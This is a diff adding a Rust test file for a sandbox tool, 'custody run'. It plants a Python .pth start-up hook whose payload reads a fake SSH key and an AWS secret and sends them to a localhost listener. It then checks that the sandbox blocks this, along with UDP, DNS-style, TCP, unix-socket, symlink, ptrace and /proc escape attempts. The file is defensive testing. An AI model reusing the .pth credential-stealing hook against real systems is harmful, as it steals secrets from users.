@@ -1,0 +1,295 @@
+//! `custody run`: control and treatment with a harmless credential-stealing
+//! `.pth` of our own (it sends only to a listener on 127.0.0.1), and escape
+//! attempts that must each fail.
+
+#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]
+
+mod common;
+
+use std::io::Read as _;
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::{Arc, Mutex};
+
+use common::{Run, custody_run, run};
+
+const FAKE_KEY: &str = "FAKE-PRIVATE-KEY-custody-test";
+const FAKE_AWS: &str = "FAKE-AWS-SECRET-custody-test";
+
+/// A listener on 127.0.0.1 that keeps everything it receives.
+fn listener() -> (u16, Arc<Mutex<Vec<u8>>>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let got = Arc::new(Mutex::new(Vec::new()));
+    let sink = Arc::clone(&got);
+    std::thread::spawn(move || {
+        for conn in l.incoming() {
+            let Ok(mut c) = conn else { continue };
+            c.set_read_timeout(Some(std::time::Duration::from_secs(2)))
+                .unwrap();
+            let mut buf = [0u8; 4096];
+            while let Ok(n) = c.read(&mut buf) {
+                if n == 0 {
+                    break;
+                }
+                sink.lock().unwrap().extend_from_slice(&buf[..n]);
+                // Answer once the request is in, so urlopen returns.
+                let _ = std::io::Write::write_all(
+                    &mut c,
+                    b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n",
+                );
+            }
+        }
+    });
+    (port, got)
+}
+
+/// A virtual environment whose start-up runs our payload, a planted key
+/// in a fake HOME, and an input file.
+struct World {
+    dir: tempfile::TempDir,
+}
+
+impl World {
+    fn new(port: u16) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let w = Self { dir };
+        let ok = Command::new("python3")
+            .args(["-m", "venv", "--without-pip"])
+            .arg(w.p("venv"))
+            .status()
+            .unwrap()
+            .success();
+        assert!(ok, "python3 -m venv failed");
+        let site = glob_site(&w.p("venv"));
+        let planted = w.p("home/.ssh/id_rsa");
+        std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
+        std::fs::write(&planted, FAKE_KEY).unwrap();
+        std::fs::write(
+            site.join("zz_custody_test.pth"),
+            "import zz_custody_test_payload\n",
+        )
+        .unwrap();
+        std::fs::write(
+            site.join("zz_custody_test_payload.py"),
+            format!(
+                r#"# Harmless test payload: reads a planted fake key and a planted
+# variable and sends them to a listener on 127.0.0.1 only.
+import os, sys, urllib.request
+seen = {{}}
+for p in (os.path.expanduser("~/.ssh/id_rsa"), {planted:?}):
+    try:
+        seen[p] = open(p).read()
+    except Exception as e:
+        seen[p] = "ERR " + type(e).__name__
+seen["aws"] = os.environ.get("AWS_SECRET_ACCESS_KEY")
+try:
+    urllib.request.urlopen(urllib.request.Request("http://127.0.0.1:{port}/x", data=repr(seen).encode()), timeout=3)
+    seen["sent"] = "yes"
+except Exception as e:
+    seen["sent"] = "ERR " + type(e).__name__
+print("PAYLOAD", repr(seen), file=sys.stderr)
+"#,
+                planted = planted.to_str().unwrap()
+            ),
+        )
+        .unwrap();
+        std::fs::write(w.p("in.txt"), "curated records\n").unwrap();
+        std::fs::write(
+            w.p("step.py"),
+            "import sys\nopen(sys.argv[2], 'w').write(open(sys.argv[1]).read().upper())\n",
+        )
+        .unwrap();
+        w
+    }
+
+    fn p(&self, rel: &str) -> PathBuf {
+        self.dir.path().join(rel)
+    }
+
+    fn s(&self, rel: &str) -> String {
+        self.p(rel).to_str().unwrap().to_owned()
+    }
+
+    fn python(&self) -> String {
+        self.s("venv/bin/python")
+    }
+
+    /// `custody run` of `python -c code` with the fake HOME and secret set.
+    fn sandboxed(&self, extra: &[&str], code: &str) -> Run {
+        let py = self.python();
+        let mut args = vec!["run"];
+        args.extend_from_slice(extra);
+        args.extend_from_slice(&["--", py.as_str(), "-c", code]);
+        run(common::custody(self.dir.path())
+            .args(&args)
+            .env("HOME", self.p("home"))
+            .env("AWS_SECRET_ACCESS_KEY", FAKE_AWS))
+    }
+}
+
+fn glob_site(venv: &Path) -> PathBuf {
+    let lib = venv.join("lib");
+    let py = std::fs::read_dir(&lib)
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    py.join("site-packages")
+}
+
+#[test]
+fn control_and_treatment() {
+    let (port, got) = listener();
+    let w = World::new(port);
+    // Control: the step run plainly. The payload steals and sends.
+    let out = Command::new(w.python())
+        .args([w.s("step.py"), w.s("in.txt"), w.s("control.txt")])
+        .env("HOME", w.p("home"))
+        .env("AWS_SECRET_ACCESS_KEY", FAKE_AWS)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    let received = String::from_utf8_lossy(&got.lock().unwrap()).into_owned();
+    assert!(
+        received.contains(FAKE_KEY) && received.contains(FAKE_AWS),
+        "control: {received}"
+    );
+    got.lock().unwrap().clear();
+
+    // Treatment: the same step under custody run.
+    assert_eq!(
+        custody_run(w.dir.path(), &["key", "generate", "-o", &w.s("lab")]).code,
+        0
+    );
+    let py = w.python();
+    let (input, output, key, att, step) = (
+        w.s("in.txt"),
+        w.s("out.txt"),
+        w.s("lab.key"),
+        w.s("att.json"),
+        w.s("step.py"),
+    );
+    let r = run(common::custody(w.dir.path())
+        .args([
+            "run", "--input", &input, "--input", &step, "--output", &output, "-k", &key,
+            "--attest", &att, "--", &py, &step, &input, &output,
+        ])
+        .env("HOME", w.p("home"))
+        .env("AWS_SECRET_ACCESS_KEY", FAKE_AWS));
+    assert_eq!(r.code, 0, "the step's work still succeeds: {}", r.stderr);
+    assert_eq!(
+        std::fs::read_to_string(w.p("out.txt")).unwrap(),
+        "CURATED RECORDS\n"
+    );
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    assert!(
+        got.lock().unwrap().is_empty(),
+        "the listener received nothing"
+    );
+    let payload = r
+        .stderr
+        .lines()
+        .find(|l| l.starts_with("PAYLOAD"))
+        .unwrap_or_default();
+    assert!(!payload.contains(FAKE_KEY), "key unreadable: {payload}");
+    assert!(
+        payload.contains("ERR PermissionError"),
+        "the planted key is denied: {payload}"
+    );
+    assert!(
+        payload.contains("'aws': None"),
+        "variable absent: {payload}"
+    );
+    assert!(
+        payload.contains("'sent': 'ERR"),
+        "sending failed: {payload}"
+    );
+
+    // The attestation: signed, outputs as subjects, what was enforced.
+    let env: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(w.p("att.json")).unwrap()).unwrap();
+    let payload = base64::Engine::decode(
+        &base64::engine::general_purpose::STANDARD,
+        env["payload"].as_str().unwrap(),
+    )
+    .unwrap();
+    let st: serde_json::Value = serde_json::from_slice(&payload).unwrap();
+    assert_eq!(st["predicateType"], "https://slsa.dev/provenance/v1");
+    assert_eq!(st["subject"][0]["name"], output);
+    assert_eq!(
+        st["subject"][0]["digest"]["sha256"].as_str().unwrap().len(),
+        64
+    );
+    let by = &st["predicate"]["runDetails"]["byproducts"];
+    assert_eq!(by[0]["annotations"]["enforced"]["landlock"], "full");
+    assert_eq!(by[1]["annotations"]["code"], 0);
+    let pubkey =
+        custody_seal::keys::PublicKey::from_pem(&std::fs::read_to_string(w.p("lab.pub")).unwrap())
+            .unwrap();
+    let envelope: custody_seal::dsse::Envelope = serde_json::from_value(env).unwrap();
+    assert!(
+        envelope.verify(&[pubkey]).is_ok(),
+        "verifies with the seal code"
+    );
+}
+
+#[test]
+fn escapes_fail() {
+    let (port, got) = listener();
+    let w = World::new(port);
+    let outside = w.p("outside.txt");
+    std::fs::write(&outside, "outside").unwrap();
+    std::fs::create_dir_all(w.p("outdir")).unwrap();
+    std::os::unix::fs::symlink(&outside, w.p("outdir/link")).unwrap();
+    let sock = w.p("daemon.sock");
+    let _unix = std::os::unix::net::UnixListener::bind(&sock).unwrap();
+    // A UDP "DNS server" on 127.0.0.1 that must hear nothing.
+    let udp = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let udp_port = udp.local_addr().unwrap().port();
+    let query = r"b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x07example\x00\x00\x01\x00\x01'";
+    let cases: [(&str, String, &str); 6] = [
+        ("udp", format!("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {udp_port}))"), "PermissionError"),
+        ("dns", format!("import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({query}, ('127.0.0.1', {udp_port}))"), "PermissionError"),
+        ("tcp", format!("import socket; socket.create_connection(('127.0.0.1', {port}))"), "PermissionError"),
+        ("unix socket", format!("import socket; s = socket.socket(socket.AF_UNIX); s.connect({:?})", sock.to_str().unwrap()), "PermissionError"),
+        ("symlink out of the output", format!("open({:?}, 'w').write('pwned')", w.s("outdir/link")), "PermissionError"),
+        ("ptrace", "import ctypes, sys; r = ctypes.CDLL(None).ptrace(0, 0, 0, 0); sys.exit(0 if r == -1 else 3)".into(), ""),
+    ];
+    for (what, code, expect) in cases {
+        let outdir = w.s("outdir");
+        let r = w.sandboxed(&["--output", &outdir], &code);
+        if expect.is_empty() {
+            assert_eq!(r.code, 0, "{what}: ptrace must return -1: {}", r.stderr);
+        } else {
+            assert_ne!(r.code, 0, "{what} must fail");
+            assert!(r.stderr.contains(expect), "{what}: {}", r.stderr);
+        }
+    }
+    assert_eq!(
+        std::fs::read_to_string(&outside).unwrap(),
+        "outside",
+        "nothing written through the link"
+    );
+    // /proc is not readable: no /proc/self/fd, no other process's environment.
+    let r = w.sandboxed(&[], "import os; os.listdir('/proc/self/fd')");
+    assert_ne!(r.code, 0);
+    assert!(r.stderr.contains("PermissionError"), "{}", r.stderr);
+    assert!(
+        got.lock().unwrap().is_empty(),
+        "nothing reached the listener"
+    );
+    let mut buf = [0u8; 512];
+    assert!(
+        udp.recv_from(&mut buf).is_err(),
+        "no datagram reached the UDP listener"
+    );
+}
